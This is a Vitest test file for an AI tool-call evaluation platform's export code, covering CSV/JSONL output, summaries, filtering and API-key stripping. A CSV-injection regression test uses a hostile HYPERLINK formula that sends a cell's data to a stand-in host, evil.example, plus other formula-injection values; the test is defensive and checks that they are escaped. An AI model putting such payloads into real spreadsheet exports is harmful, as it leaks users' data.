import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "@/lib/platform/csv";
import type { CriterionScale } from "@/lib/criteria/parse";
import { meanScore, passRate } from "@/lib/runs/results/aggregates";
import { verdictOf } from "@/lib/runs/results/verdict";
import { runViewSchema } from "@/lib/runs/schemas/run-view";
import { csvHeader, csvLine, EXPORT_COLUMNS, exportFileName, exportRecords, exportStream, RESULT_COLUMNS, type ExportCall } from "./export";
import { exportSummary } from "./export-summary";
import { runCallIdsPage } from "./run-call-query";
import { judgedDemo, type JudgedDemo } from "./test-fixtures";

const view = (params: Record<string, string> = {}) => runViewSchema.parse(params);

const result = (criterionId: string, mode: string) => ({
  criterionId,
  mode,
  status: "done",
  score: 0.5,
  passed: null,
  explanation: 'Said "no", then\nleft',
  findings: [{ check: "x", severity: "minor", message: "a, b" }],
  judgeId: "checks",
  latencyMs: 4,
  error: null,
});

const call: ExportCall = {
  id: "tc1",
  callId: "call_1",
  ordinal: 2,
  toolName: "get_weather",
  rawArguments: '{"city":"Paris"}',
  transcriptId: "t1",
  transcript: { name: "Weather, Paris", model: "gpt-4o", taskId: "weather-7", trial: "2", tags: '["weather","eu"]', reward: 1, success: true },
  evaluations: [result("b", "hindsight"), result("a", "hindsight"), result("b", "immediate"), result("a", "immediate")],
};

describe("exportRecords", () => {
  it("orders a call's results by the run's criteria, immediate before hindsight", () => {
    const records = exportRecords("r1", call, [
      { id: "a", text: "Criterion A", scale: "continuous" },
      { id: "b", text: "Criterion B", scale: "continuous" },
    ]);
    expect(records.map((r) => `${r.criterion_id}/${r.mode}`)).toEqual(["a/immediate", "a/hindsight", "b/immediate", "b/hindsight"]);
    expect(records[0]).toMatchObject({ run_id: "r1", transcript_id: "t1", transcript_name: "Weather, Paris", call_ordinal: 2, call_id: "call_1", tool_call_id: "tc1", tool: "get_weather", criterion: "Criterion A", judge: "checks", latency_ms: 4 });
    expect(Object.keys(records[0])).toEqual([...RESULT_COLUMNS, "human"]);
    expect(records[0].human).toBeNull();
  });

  it("writes CSV lines that read back to the same values, findings as JSON", () => {
    const [record] = exportRecords("r1", call, [{ id: "a", text: "A", scale: "continuous" }]);
    const [header, line] = parseCsv(csvHeader() + csvLine(record));
    expect(header).toEqual([...EXPORT_COLUMNS]);
    const byColumn = Object.fromEntries(header.map((column, i) => [column, line[i]]));
    expect(byColumn).toMatchObject({ transcript_name: "Weather, Paris", arguments: '{"city":"Paris"}', explanation: 'Said "no", then\nleft', score: "0.5", error: "" });
    // The outcome beside every result, and `passed` for a score by the threshold the file names.
    expect(byColumn).toMatchObject({ model: "gpt-4o", task_id: "weather-7", trial: "2", tags: "weather; eu", reward: "1", success: "true", passed: "true", passed_from: "score >= 0.5" });
    expect(JSON.parse(byColumn.findings)).toEqual(record.findings);
  });

  // Issue 31: uploaded text reached spreadsheets as formulas.
  it("escapes uploaded text a spreadsheet would run as a formula, and keeps numbers numbers", () => {
    const hostile: ExportCall = {
      ...call,
      toolName: "=1+2",
      rawArguments: "-2+3",
      transcript: { ...call.transcript, name: '=HYPERLINK("https://evil.example/?d="&A1,"open")', tags: '["=cmd"]' },
      evaluations: [{ ...result("a", "immediate"), score: -1.5, explanation: "@SUM(1)", error: "+cmd" }],
    };
    const [record] = exportRecords("r1", hostile, [{ id: "a", text: "=criterion", scale: "continuous" }]);
    const text = csvLine(record);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
    const [header, line] = parseCsv(csvHeader() + text);
    const byColumn = Object.fromEntries(header.map((column, i) => [column, line[i]]));
    expect(byColumn).toMatchObject({ transcript_name: `'${hostile.transcript.name}`, tags: "'=cmd", tool: "'=1+2", arguments: "'-2+3", criterion: "'=criterion", explanation: "'@SUM(1)", error: "'+cmd", score: "-1.5" });
    for (const cell of line) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});

describe("exportFileName", () => {
  it("keeps the run's name readable and safe in a file name", () => {
    expect(exportFileName("checks · both · 2026-11-22 07:30 UTC", "run1", "csv")).toBe("checks-both-2026-11-22-07-30-UTC-run1.csv");
    expect(exportFileName('a/b\\c"d', "run1", "jsonl")).toBe("a-b-c-d-run1.jsonl");
    expect(exportFileName("Évaluation ✓", "run1", "csv")).toBe("Evaluation-run1.csv");
    expect(exportFileName("...", "run1", "summary.json")).toBe("run1.summary.json");
  });
});

describe("with a judged run", () => {
  let demo: JudgedDemo;
  beforeAll(async () => {
    demo = await judgedDemo("export");
  }, 120_000);
  afterAll(() => demo.cleanup());

  const read = (stream: ReadableStream<Uint8Array>) => new Response(stream).text();

  it("streams every result of the run as CSV, page by page, in the run page's order", async () => {
    const text = await read(exportStream(demo.prisma, demo.bothRunId, view(), "csv", { ids: 7, results: 3 }));
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(await demo.prisma.evaluation.count({ where: { runId: demo.bothRunId } }));
    const { ids } = await runCallIdsPage(demo.prisma, demo.bothRunId, view(), 0, 1000);
    const column = header.indexOf("tool_call_id");
    expect([...new Set(rows.map((row) => row[column]))]).toEqual(ids);
  });

  it("exports only the filtered calls, as JSON Lines", async () => {
    const text = await read(exportStream(demo.prisma, demo.bothRunId, view({ changed: "1" }), "jsonl", { ids: 2, results: 1 }));
    const records = text.trimEnd().split("\n").map((line) => JSON.parse(line) as Record<string, unknown>);
    const flipped = await demo.prisma.callComparison.findMany({ where: { runId: demo.bothRunId, flipped: true }, distinct: ["toolCallId"], select: { toolCallId: true } });
    expect(flipped.length).toBeGreaterThan(0);
    expect(new Set(records.map((r) => r.tool_call_id))).toEqual(new Set(flipped.map((f) => f.toolCallId)));
    expect(records).toHaveLength(flipped.length * demo.criterionIds.length * 2);
    expect(records.every((r) => Array.isArray(r.findings))).toBe(true);
  });

  it("writes just the header when nothing matches", async () => {
    expect(await read(exportStream(demo.prisma, demo.bothRunId, view({ tool: "no-such-tool" }), "csv"))).toBe(csvHeader());
    expect(await read(exportStream(demo.prisma, demo.bothRunId, view({ tool: "no-such-tool" }), "jsonl"))).toBe("");
  });

  it("summarises each criterion and mode with the verdict rules of lib/runs/results", async () => {
    const summary = await exportSummary(demo.prisma, demo.bothRunId, view());
    expect(summary).not.toBeNull();
    if (!summary) return;
    expect(summary.calls).toBe(await demo.prisma.toolCall.count());
    expect(summary.criteria).toHaveLength(demo.criterionIds.length);
    const rows = await demo.prisma.evaluation.findMany({ where: { runId: demo.bothRunId }, include: { criterion: { select: { scale: true } } } });
    for (const criterion of summary.criteria) {
      expect(criterion.modes.map((m) => m.mode)).toEqual(["immediate", "hindsight"]);
      for (const mode of criterion.modes) {
        const own = rows.filter((row) => row.criterionId === criterion.id && row.mode === mode.mode);
        const verdicts = own.map((row) => verdictOf(row, row.criterion.scale as CriterionScale));
        const expected = passRate(verdicts);
        expect(mode).toMatchObject({ results: own.length, passed: expected.passed, failed: expected.failed, notApplicable: expected.notApplicable, passRate: expected.rate });
        expect(mode.meanScore).toBeCloseTo(meanScore(own.filter((row) => row.status === "done").map((row) => row.score)) ?? Number.NaN, 9);
      }
      const comparisons = await demo.prisma.callComparison.findMany({ where: { runId: demo.bothRunId, criterionId: criterion.id, flipped: { not: null } } });
      expect(criterion.flips).toEqual({
        compared: comparisons.length,
        flipped: comparisons.filter((c) => c.flipped).length,
        flipRate: comparisons.length ? comparisons.filter((c) => c.flipped).length / comparisons.length : null,
      });
    }
  });

  it("summarises under the view's filters", async () => {
    const summary = await exportSummary(demo.prisma, demo.bothRunId, view({ tool: "check_stock", sort: "tool" }));
    const calls = await demo.prisma.toolCall.count({ where: { toolName: "check_stock" } });
    expect(summary?.calls).toBe(calls);
    expect(summary?.filters).toEqual({ tool: "check_stock" });
    expect(summary?.criteria.every((c) => c.modes.every((m) => m.results === calls))).toBe(true);
  });

  it("never carries an API key, even one stored by mistake, and has no flips for a one-mode run", async () => {
    await demo.prisma.run.update({ where: { id: demo.immediateRunId }, data: { judgeSettings: { kind: "checks", apiKey: "sk-secret-123" } } });
    const summary = await exportSummary(demo.prisma, demo.immediateRunId, view());
    expect(JSON.stringify(summary)).not.toContain("sk-secret");
    expect(summary?.run.judgeSettings).toEqual({ kind: "checks" });
    expect(summary?.criteria.every((c) => c.flips === null)).toBe(true);
    expect(await exportSummary(demo.prisma, "no-such-run", view())).toBeNull();
  });
});
